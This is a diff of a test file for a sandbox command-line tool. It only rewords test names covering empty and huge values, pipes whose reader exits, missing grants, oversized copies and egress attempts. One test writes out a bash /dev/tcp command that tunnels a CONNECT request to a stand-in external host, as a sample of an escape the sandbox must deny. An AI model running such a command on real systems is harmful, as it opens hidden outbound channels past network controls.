@@ -1,4 +1,4 @@
-/** `craik sandbox` given what nobody means: empty and huge values, readers that leave, and grants that are gone. */
+/** `craik sandbox` with unusual input: empty and huge values, readers that exit early, and missing grants. */
 import { truncateSync, writeFileSync } from 'node:fs'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { ERRORS } from '../../src/errors.ts'
@@ -17,7 +17,7 @@ afterAll(async () => {
   home[Symbol.dispose]()
 })
 
-describe('an odd value', () => {
+describe('an unusual value', () => {
   const ODD = ['', '-1', 'x'.repeat(60_000)]
   /** `V` stands for the value. */
   const PLACES: readonly string[][] = [
@@ -40,7 +40,7 @@ describe('an odd value', () => {
   ]
 
   it.each(PLACES.map((typed) => [typed.join(' '), typed] as const))(
-    'is refused in words of the person: craik sandbox %s',
+    'is refused with an error about the command line, not about the API: craik sandbox %s',
     async (_, typed) => {
       for (const odd of ODD) {
         const args = typed.map((part) => part.replace('V', () => odd))
@@ -60,7 +60,7 @@ describe('an odd value', () => {
   )
 })
 
-describe('a pipe whose reader leaves', () => {
+describe('a pipe whose reader exits', () => {
   const pipe = (...program: readonly string[]) =>
     run(
       'bash',
@@ -78,12 +78,12 @@ describe('a pipe whose reader leaves', () => {
       { env: { PATH: process.env.PATH!, CRAIK_HOME: home.home, HOME: home.folder } },
     )
 
-  it('ends the command inside, and says so as any program would', async () => {
+  it('ends the command in the sandbox, with exit code 141 like any program', async () => {
     expect(await pipe('yes')).toEqual({ code: 141, stdout: 'y\n', stderr: '' })
     expect((await home.run(['sandbox', 'ps', 'edge'])).stdout).not.toContain('"yes"')
   })
 
-  it('also one that takes no SIGPIPE', async () => {
+  it('also ends a command that ignores SIGPIPE', async () => {
     const deaf = await pipe('sh', '-c', "trap '' PIPE; yes")
     expect(deaf).toEqual({ code: 141, stdout: 'y\n', stderr: '' })
     expect((await home.run(['sandbox', 'ps', 'edge'])).stdout).not.toContain('"yes"')
@@ -91,7 +91,7 @@ describe('a pipe whose reader leaves', () => {
 })
 
 describe('forward', () => {
-  it('without a grant is refused at once, with what to type and a receipt', async () => {
+  it('without a grant is denied at once, with the command to type and a receipt', async () => {
     const grants = await home.json<{ id: string; capability: string }[]>(['grant', 'list'])
     const { id } = grants.find(({ capability }) => capability === 'sandbox.forward')!
     await home.json(['grant', 'revoke', id])
@@ -105,7 +105,7 @@ describe('forward', () => {
 })
 
 describe('a copy that is too large', () => {
-  it('names the size that would do, and then it does', async () => {
+  it('names a sufficient --max-copy, which then works', async () => {
     const file = home.path('large.bin')
     writeFileSync(file, '')
     truncateSync(file, 3 * 1024 * 1024 + 1)
@@ -121,8 +121,8 @@ describe('a copy that is too large', () => {
   })
 })
 
-describe('a way out', () => {
-  it('is refused with a receipt that says where to', async () => {
+describe('an egress attempt', () => {
+  it('is denied with a receipt that names the destination', async () => {
     const attempt =
       'exec 3<>/dev/tcp/127.0.0.1/8118; printf "CONNECT Collector.Example:443 HTTP/1.1\\r\\n\\r\\n" >&3; cat <&3'
     const { stdout } = await home.run(['sandbox', 'exec', 'edge', '--', 'bash', '-c', attempt])
